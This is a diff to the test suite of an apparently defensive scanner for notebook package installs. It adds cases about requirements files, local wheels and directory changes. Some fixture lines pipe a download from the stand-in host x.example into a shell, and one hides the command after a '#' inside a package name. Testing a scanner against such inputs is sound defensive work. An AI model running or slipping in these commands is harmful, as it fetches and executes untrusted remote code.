@@ -64,6 +64,13 @@ def test_an_install_from_the_configured_index_escalates(tmp_path, line):
     assert not kit.holds(report, "files.notebook-shell-network"), kit.findings(report)
 
 
+def test_requirements_with_markers_and_comments_are_names_of_the_index(tmp_path):
+    requirements = ('# CPU wheels\nnumpy==1.26.4  # pinned\n-q\n'
+                    'tensorflow-cpu>=2.9.1, != 2.11.1 ; platform_machine == "x86_64"\n')
+    report = scan(tmp_path, "!pip install -r requirements.txt", files={"requirements.txt": requirements})
+    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)
+
+
 def test_a_subshell_cd_does_not_move_the_install(tmp_path):
     # `!cd code && python3 fl_job.py` moves only its own subshell (NVFlare's tutorials launch jobs so)
     report = scan(tmp_path, "!pip install -r requirements.txt", "!cd code && python3 fl_job.py")
@@ -97,6 +104,7 @@ def test_a_requirements_file_of_the_parent_folder(tmp_path):
     "!pip install --target /usr/lib/python3/dist-packages fl-metrics",
     "!pip install fl-metrics; curl -s https://x.example/i | sh",
     "!pip install fl-metrics && python -c 'import os'",
+    "!pip install numpy#; curl -s https://x.example/i | sh",  # `#` inside a word is no comment to the shell
     "!pip install {pkg}",
     "!pip install $PKG",
     "!pip install -r /tmp/requirements.txt",
@@ -114,6 +122,9 @@ def test_an_install_from_elsewhere_rejects(tmp_path, line):
     "numpy\nfl-metrics @ git+https://github.com/x/fl-metrics\n",
     "-r more.txt\nnumpy\n",  # more.txt names the index
     "-r /tmp/elsewhere.txt\nnumpy\n",  # a file the job does not hold
+    "numpy\n./vendor/fl_metrics-0.1-py3-none-any.whl\n",  # a local wheel or path, not a name of the index
+    "-e ./fl_metrics\n",
+    "numpy --hash=sha256:0123\n",
 ])
 def test_a_requirements_file_taking_packages_from_elsewhere_rejects(tmp_path, requirements):
     report = scan(tmp_path, "!pip install -r requirements.txt",
@@ -131,6 +142,7 @@ def test_a_requirements_file_taking_packages_from_elsewhere_rejects(tmp_path, re
     ("%cd /tmp/staging", "!pip install -r requirements.txt"),
     ("import os\nos.chdir('/tmp/staging')", "!pip install -r requirements.txt"),
     ("cd /tmp/staging", "!pip install -r requirements.txt"),  # automagic %cd
+    ("get_ipython().run_line_magic('cd', '/tmp/staging')", "!pip install -r requirements.txt"),
     ("%%bash\ncd /tmp/staging\npip install -r requirements.txt",),
     # pip's own settings send it elsewhere
     ("%env PIP_INDEX_URL=https://pkgs.x.example/simple", "!pip install fl-metrics"),
